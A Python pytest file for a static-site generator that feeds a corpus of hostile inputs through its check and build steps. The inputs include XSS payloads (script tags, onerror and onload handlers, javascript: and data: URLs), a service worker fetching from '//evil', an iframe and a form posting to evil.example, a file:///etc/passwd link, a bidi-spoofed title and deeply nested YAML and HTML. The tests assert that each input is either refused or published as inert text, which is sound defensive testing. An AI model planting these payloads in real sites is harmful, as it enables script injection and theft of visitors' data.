"""The whole hostile corpus through `portal check` and `portal build`.

Each hostile input either stops the build (exit 1, every problem at a real file:line:column,
the previous site untouched) or builds cleanly with nothing hostile in site/. A crash, a
traceback or a published payload is a failure.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from lxml import html as lxml_html

from conftest import REPO, MiniPortal
from generator.build import build, check, generate
from generator.problems import errors

# Inputs that must be refused: (file, text). Each lands in a valid mini portal on its own.
REFUSED = {
    "deep-yaml": ("networks/deep.yml", "name: " + "[" * 5000 + "]" * 5000 + "\n"),
    "long-number": ("networks/long.yml", "name: x\nmembers: [" + "7" * 9000 + "]\n"),
    "raw-control": ("practices/ctrl.md", "---\ntitle: 'a\x02b'\n---\n"),
    "escaped-control": ("practices/esc.md", '---\ntitle: "a\\x1bb"\n---\n'),
    "bidi-title": ("practices/bidi.md", "---\ntitle: 'evil\u202etxt.exe'\n---\n"),
    "nan": ("practices/nan.md", "---\ntitle: x\nresults: {indicators: [{name: a, unit: b, achieved: .nan}]}\n---\n"),
    "future": ("practices/future.md", None),  # a valid practice verified in 2999
    "javascript-url": ("registry/organisations/evil.yml",
                       "- id: evil\n  name: Evil\n  kind: ngo\n  website: 'javascript:alert(1)'\n"),
    "spaced-id": ("registry/municipalities/spaced.yml", "- id: ' gran'\n  name: G\n  country: NO\n"),
    "svg-page": ("content/drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "html-page": ("content/evil.html", "<script>alert(1)</script>"),
    "service-worker": ("content/sw.js", "self.addEventListener('fetch', e => e.respondWith(fetch('//evil')))"),
    "ignored-file": ("practices/evil.markdown", "---\ntitle: x\n---\n"),
    "deep-quotes": ("practices/quotes.md", None),  # body of nested quotes
    "deep-html": ("practices/divs.md", None),  # body of nested divs
}


def _refused_text(name: str, mini: MiniPortal) -> None:
    relative, text = REFUSED[name]
    if name == "future":
        mini.practice("future", last_verified="2999-01-01")
    elif name == "deep-quotes":
        mini.practice("quotes", body=">" * 3000 + " x\n")
    elif name == "deep-html":
        mini.practice("divs", body="<div>" * 3000 + "x")
    else:
        mini.write(relative, text)


@pytest.mark.parametrize("name", list(REFUSED))
def test_refused_input_stops_the_build_with_positioned_problems(mini: MiniPortal, name: str):
    mini.practice()
    site = mini.root / "site"
    site.mkdir()
    (site / "index.html").write_text("previous site", encoding="utf-8")
    _refused_text(name, mini)

    generated = build(mini.root, quiet=True)  # must not raise

    found = errors(generated.problems)
    assert found and not generated.ok
    assert any(p.file == REFUSED[name][0] for p in found), "\n".join(map(str, found))
    for problem in found:
        assert (mini.root / problem.file).exists() or (mini.root / problem.file).is_symlink(), str(problem)
        assert problem.line >= 1 and problem.column >= 1 and problem.message, str(problem)
    assert (site / "index.html").read_text(encoding="utf-8") == "previous site"
    result = subprocess.run([sys.executable, "-m", "generator", "--root", str(mini.root), "check"],
                            cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{REFUSED[name][0]}:" in result.stdout + result.stderr


# Hostile markup in values that are valid data: the build succeeds and publishes none of it.
PAYLOAD = "<script>alert('PWNED')</script><img src=x onerror=alert('PWNED')><svg onload=alert('PWNED')>"
ATTR_LIST = "{ onclick=\"alert('PWNED')\" style=\"position:fixed;inset:0\" .md-dialog--active }"
URL = "https://evil.example/a)(x){:onclick=alert('PWNED')}'onmouseover='alert(1)"


def _hostile_portal(mini: MiniPortal) -> None:
    q = json.dumps  # a JSON string is a YAML string that holds any quote
    mini.practice(
        title=q(f"Title {ATTR_LIST} [link](javascript:alert(1)) PWNED"),
        summary=q(f"{PAYLOAD} {ATTR_LIST}"),
        sources=f"[{{title: {q('Source ' + ATTR_LIST)}, url: {q(URL)}, publisher: {q('<b onmouseover=x>PWNED</b>')}}}]",
        contact=f"{{website: {q(URL)}, role: {q(ATTR_LIST)}}}",
        lessons=f"[{q(PAYLOAD)}, {q('[x](javascript:alert(1))')}, {q('=HYPERLINK(1)')}]",
        body=("## Context {: onclick=alert('PWNED') }\n\n"
              f"{PAYLOAD}\n\n[click](javascript:alert('PWNED')) [data](data:text/html,PWNED)\n\n"
              "<a href=\"javascript:alert('PWNED')\">a</a> <div class=\"md-dialog md-dialog--active\">PWNED toast</div>\n\n"
              "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">PWNED overlay</p>\n\n"
              "<span class=\"portal-edit\">hidden from search</span> <iframe src=\"https://evil.example\"></iframe>\n\n"
              "<form action=\"https://evil.example\"><input name=x></form>\n\n"
              f"Text {ATTR_LIST}\n"))
    mini.write("registry/organisations/hostile.yml",
               f"- id: hostile-org\n  name: {q('Org ' + ATTR_LIST)}\n  kind: ngo\n  website: {q(URL)}\n")
    mini.network(extra=f"description: {q(PAYLOAD + ' [x](javascript:alert(1))')}\n")
    mini.write("content/hostile-guide.md", f"# Guide {ATTR_LIST}\n\n{PAYLOAD}\n\n[x](javascript:alert('PWNED'))\n\n"
                                           "Para {: onclick=\"alert('PWNED')\" }\n")


def _hostile_in(page: Path) -> list[str]:
    tree = lxml_html.fromstring(page.read_bytes())
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        contributed = "PWNED" in (element.text or "") + "".join(element.attrib.values())
        for attribute, value in element.attrib.items():
            if attribute.startswith("on") and ("PWNED" in value or "alert" in value):
                found.append(f"{element.tag} {attribute}={value!r}")
            if attribute in ("href", "src", "action") and value.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{element.tag} {attribute}={value!r}")
            if attribute == "style" and ("position:fixed" in value.replace(" ", "") or contributed):
                found.append(f"{element.tag} style={value!r}")
            if attribute == "class" and contributed and ("md-dialog" in value or "portal-edit" in value):
                found.append(f"{element.tag} class={value!r}")
        if element.tag in ("script", "iframe", "form", "svg") and "PWNED" in lxml_html.tostring(element, encoding="unicode"):
            found.append(f"<{element.tag}> with the payload")
    return found


def test_hostile_markup_in_valid_data_builds_and_publishes_nothing_hostile(mini: MiniPortal):
    _hostile_portal(mini)
    _, problems = check(mini.root)
    assert not errors(problems), "\n".join(map(str, errors(problems)))

    generated = build(mini.root, quiet=True)

    assert generated.ok
    pages = sorted((mini.root / "site").rglob("*.html"))
    assert len(pages) > 20
    hostile = {page.relative_to(mini.root).as_posix(): found for page in pages if (found := _hostile_in(page))}
    assert not hostile, hostile
    practice = (mini.root / "site" / "practices" / "school-exchange.html").read_text(encoding="utf-8")
    assert "PWNED overlay" in practice and "Title" in practice  # the text is shown, as text


def test_long_text_in_every_field_of_a_form_still_makes_every_download(tmp_path: Path):
    """fpdf2 never splits a table row: a long bold label once made a row taller than a page."""
    import re

    from pypdf import PdfReader

    from conftest import copy_portal
    from generator.build import generate

    root = copy_portal(tmp_path)
    template = root / "content" / "templates" / "action-plan.yml"
    text = template.read_text(encoding="utf-8")
    text = re.sub(r"(\n\s*hint: ).*", lambda m: m.group(1) + "'" + "Hint words " * 300 + "'", text, count=1)
    text = re.sub(r"(\n\s*label: ).*", lambda m: m.group(1) + "'" + "Label " * 40 + "'", text, count=1)
    template.write_text(text, encoding="utf-8")

    generated = generate(root, workers=1)

    assert generated.ok, "\n".join(map(str, generated.problems))
    pdf = generated.output.files["downloads/templates/action-plan.pdf"]
    assert len(PdfReader(io.BytesIO(pdf)).pages) >= 2


def test_forms_with_long_headings_many_columns_and_checklist_links_make_safe_downloads(mini: MiniPortal):
    """A heading of one long word once squeezed the other PDF columns to nothing (a crash), and the
    PDF checklist turned contributed [text](javascript:...) into a live link."""
    from pypdf import PdfReader

    mini.practice()
    columns = "\n".join(f"              - {{key: c{i}, name: Heading{i}}}" for i in range(10))
    mini.write("content/templates/hostile-form.yml", f"""
        title: A made-up form
        purpose: Tests what a contributor can put into a form.
        tables:
          - key: t1
            title: Table
            columns:
              - {{key: x, name: X}}
              - {{key: y, name: "{'Supercalifragilistic' * 4}"}}
{columns}
            rows: [{{x: "a b", y: "c"}}]
        checklist:
          title: Before you start
          items:
            - title: Check
              description: "[x](file:///etc/passwd) [js](javascript:alert`PWNED`) [d](data:text/html,x) --strike-- __under__"
        sources: [{{title: A made-up source}}]
        last_verified: 2026-11-01
        """)

    generated = generate(mini.root, workers=1)

    assert generated.ok, "\n".join(map(str, generated.problems))
    pdf = PdfReader(io.BytesIO(generated.output.files["downloads/templates/hostile-form.pdf"]))
    links = [annotation.get_object().get("/A", {}).get("/URI") for page in pdf.pages
             for annotation in page.get("/Annots", [])]
    assert links == []
    assert "javascript:alert" in "".join(page.extract_text() for page in pdf.pages)  # shown as text


def test_a_form_with_more_columns_than_a_page_holds_is_refused(mini: MiniPortal):
    mini.practice()
    columns = "\n".join(f"      - {{key: c{i}, name: H{i}}}" for i in range(13))
    mini.write("content/templates/wide.yml", f"title: Wide\npurpose: P.\ntables:\n  - key: t\n    title: T\n"
                                             f"    columns:\n{columns}\nsources: [{{title: S}}]\nlast_verified: 2026-11-01\n")
    problem = next(p for p in errors(check(mini.root)[1]) if p.file == "content/templates/wide.yml")
    assert problem.field == "tables[0].columns" and "at most 12" in problem.message
